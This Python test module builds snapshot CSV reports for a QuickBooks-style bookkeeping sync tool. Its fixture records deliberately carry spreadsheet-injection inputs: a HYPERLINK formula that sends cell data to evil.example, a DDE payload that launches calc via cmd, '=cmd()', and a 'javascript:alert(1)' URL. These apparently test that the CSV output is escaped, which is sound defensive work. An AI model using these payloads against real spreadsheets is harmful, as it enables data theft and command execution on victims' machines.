"""One file of each report in each language, kept to be read and compared byte for byte.

`python -m tests.unit.domain.report_snapshots` writes them anew: look at what git says has changed. To see them as a
spreadsheet does: `soffice --headless --convert-to fods --infilter="Text - txt - csv (StarCalc):44,34,76,1,,1033,false,
true,false,false,false,0,true" FILE.csv` (1036: as one that is set up for French) leaves types and formulas in the XML.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Final

from bookbridge.domain.csv_reports import render
from bookbridge.domain.discrepancies import Choice, Difference, Discrepancy, DiscrepancyKind, discrepancy_id
from bookbridge.domain.discrepancy_rows import row_of
from bookbridge.domain.failures import Failure, Problem, fail, fail_connection
from bookbridge.domain.languages import languages
from bookbridge.domain.records import EntityType
from bookbridge.domain.reports import REPORT_CATEGORIES, REPORT_NAMES, ReportName
from tests.unit.domain.failures.catalogues import quickbooks_online

FOLDER: Final = Path(__file__).with_name("snapshots")
COMPANY: Final = "boulangerie-noel"
OPENED: Final = datetime(2026, 11, 2, 9, 30, tzinfo=UTC)
LAST: Final = datetime(2026, 11, 21, 23, 59, 59, tzinfo=UTC)
BOOKS: Final = quickbooks_online()

DUPLICATE: Final = (
    "Duplicate Document Number Error : You must specify a different number. This number has already been used. "
    "DocNumber=1781 is assigned to TxnType=Invoice with TxnId=3188"
)
HOSTILE: Final = '=HYPERLINK("https://evil.example/?"&A1;"click")'
MANY_LINES: Final = 'First line\r\nsecond, with a comma; a semicolon\tand a tab\x00 "quoted"'


def snapshot(report: ReportName, language: str) -> bytes:
    """The file as it is made."""
    rows = _drifted(language) if report == "discrepancies" else _failed(report)
    return b"".join(render(rows, language, COMPANY, BOOKS))


def path_of(report: ReportName, language: str) -> Path:
    """Where it is kept."""
    return FOLDER / f"{report}.{language}.csv"


def _failed(report: ReportName) -> Iterator[Failure]:
    return (each for each in FAILURES if each.category in REPORT_CATEGORIES[report])


def _failure(entity_type: EntityType, record_id: str, problem: Problem, party: str = "", **record: Any) -> Failure:
    shown = {name: record.pop(name) for name in ("status_in_package", "attempts") if name in record}
    made = fail(
        None,
        company_id=COMPANY,
        entity_type=entity_type,
        record_id=record_id,
        record=record,
        operation="create",
        problem=problem,
        party=party,
        now=OPENED,
    )
    return replace(made, last_failed_at=LAST, **shown)


def _refused(code: str, text: str, entity_type: EntityType, **more: Any) -> Problem:
    """What QuickBooks Online answered."""
    return BOOKS.match(code, text, entity_type).problem(message=text, package_code=code, **more)


def _found(code: str, entity_type: EntityType, **more: Any) -> Problem:
    """What our own checks found."""
    return BOOKS.problem_for(code, entity_type, **more)


LINK: Final = "https://qbo.intuit.com/app/invoice?txnId=3188"
CHECK: Final = {"kind": "check", "check_number": "1043", "image_url": "https://bank.example/checks/1043.png?side=front"}
ACH: Final = {"kind": "ach", "text": "trace 091000019; returned: no"}

FAILURES: Final = (
    _failure(
        "invoice",
        "inv-1781",
        _refused("6140", DUPLICATE, "invoice", package_link=LINK),
        "Café Noël & fils",
        number="1781",
        customer="c-1",
        date="2026-10-31",
        total="1250.50",
        currency="EUR",
        status="sent",
        attempts=3,
    ),
    _failure(
        "bill",
        HOSTILE,
        _refused("6000", MANY_LINES, "bill"),
        "  =1+1",
        number="-2+3+cmd|' /C calc'!A0",
        vendor="v-1",
        date="2026-11-01",
        total="-12.50",
        currency="USD",
        status="@SUM(1+1)",
        status_in_package="+33 1 23 45 67 89",
    ),
    _failure("order", "so-9", _found("total_mismatch", "order"), "株式会社 ＝1+1 😀", number="00042", total="0.00"),  # noqa: RUF001
    _failure(
        "credit_note",
        "cn-1",
        _found("customer_deleted", "credit_note", values={"party": "O'Brien; =2*3"}),
        "O'Brien; =2*3",
        number="1E5",
        date="2026-02-28",
        total="999999999999.99",
        currency="JPY",
    ),
    _failure(
        "payment",
        "pay-1",
        _refused("6000", "Business Validation Error: " + MANY_LINES, "payment"),
        "Blue Lake Ltd",
        reference="CHK 1043",
        customer="c-1",
        date="2026-11-02",
        amount="125.50",
        currency="USD",
        delivery=CHECK,
    ),
    _failure(
        "bill_payment",
        "pay-2",
        _found("closed_period", "bill_payment", values={"closing_date": "2026-06-30", "date": "2026-06-15"}),
        "Élan SARL",
        date="2026-06-15",
        amount="80.00",
        currency="EUR",
        delivery=ACH,
    ),
    _failure(
        "payment",
        "pay-3",
        _refused("", "", "payment"),
        "Zoë",
        amount="-0.01",
        delivery={"kind": "card", "text": "=cmd()", "image_url": "javascript:alert(1)"},
    ),
    _failure(
        "document",
        "doc-1",
        _found("file_unavailable", "document", values={"file_name": "reçu d'été.pdf"}),
        file_name="reçu d'été.pdf",
        record={"entity_type": "invoice", "record_id": "inv-1781"},
    ),
    _failure(
        "document",
        "doc-2",
        _refused("6030", "The file is too large", "document"),
        file_name="=scan.pdf",
        record={"entity_type": "bill", "record_id": "b-1"},
    ),
    _failure(
        "customer", "c-7", _refused("6240", "The name supplied already exists.", "customer"), name="Müller, Söhne"
    ),
    _failure("item", "s-1", _found("income_account_missing", "item"), name="Conseil;=1+1"),
    _failure("refund", "ref-1", _refused("9999999", "Something new: café", "refund"), date="2026-11-20", amount="5.00"),
    _failure(
        "expense",
        "exp-1",
        _refused("610", "Object Not Found : Something you're trying to use has been made inactive.", "expense"),
        date="2026-11-19",
        total="42.00",
    ),
    fail_connection(
        None,
        company_id=COMPANY,
        package="quickbooks-online",
        organisation="Boulangerie Noël",
        problem=BOOKS.problem_for("reauthorization_required", "connection", message="invalid_grant"),
        now=OPENED,
    ),
)


def _drift(
    entity_type: EntityType, record_id: str, kind: DiscrepancyKind, *differences: tuple[str, str, str], **more: Any
) -> Discrepancy:
    found = Discrepancy(
        company_id=COMPANY,
        discrepancy_id=discrepancy_id(entity_type, record_id),
        entity_type=entity_type,
        record_id=record_id,
        kind=kind,
        differences=tuple(Difference(*each) for each in differences),
        theirs={},
        choices=tuple(Choice),
        family=entity_type,
        package_id="145",
        version="3",
        found_at=OPENED,
        last_seen_at=OPENED + timedelta(hours=2),
        record_number="1002",
        party="Café Noël & fils",
        date="2026-10-31",
        amount="240.00",
        currency="EUR",
        package_link="https://qbo.intuit.com/app/invoice?txnId=145",
    )
    return replace(found, **more)


def _drifted(language: str) -> Iterator[Failure]:
    changed, voided, merged = DiscrepancyKind.CHANGED, DiscrepancyKind.VOIDED, DiscrepancyKind.MERGED
    found = (
        _drift("invoice", "inv-1", changed, ("total", "240.00", "200.00"), ("lines[0].amount", "240.00", "200.00")),
        _drift("invoice", "inv-2", changed, ("number", "1002", "=1002"), ("memo", '=SUM("a";1)\r\n- dash', "")),
        _drift("bill", "b-1", DiscrepancyKind.STATUS, ("status", "open", "paid")),
        _drift("payment", "p-1", voided, ("status", "active", "voided"), record_number="", amount="-240.00"),
        _drift("invoice", "inv-3", DiscrepancyKind.DELETED, ("status", "sent", "deleted"), package_link=""),
        _drift("credit_note", "cn-1", merged, ("status", "sent", "deleted"), merged_into="cn-2", date=""),
    )
    return (row_of(each, BOOKS, language) for each in found)


def main() -> None:
    """Write all of them anew."""
    for report in REPORT_NAMES:
        for language in languages():
            path_of(report, language).write_bytes(snapshot(report, language))


if __name__ == "__main__":
    main()
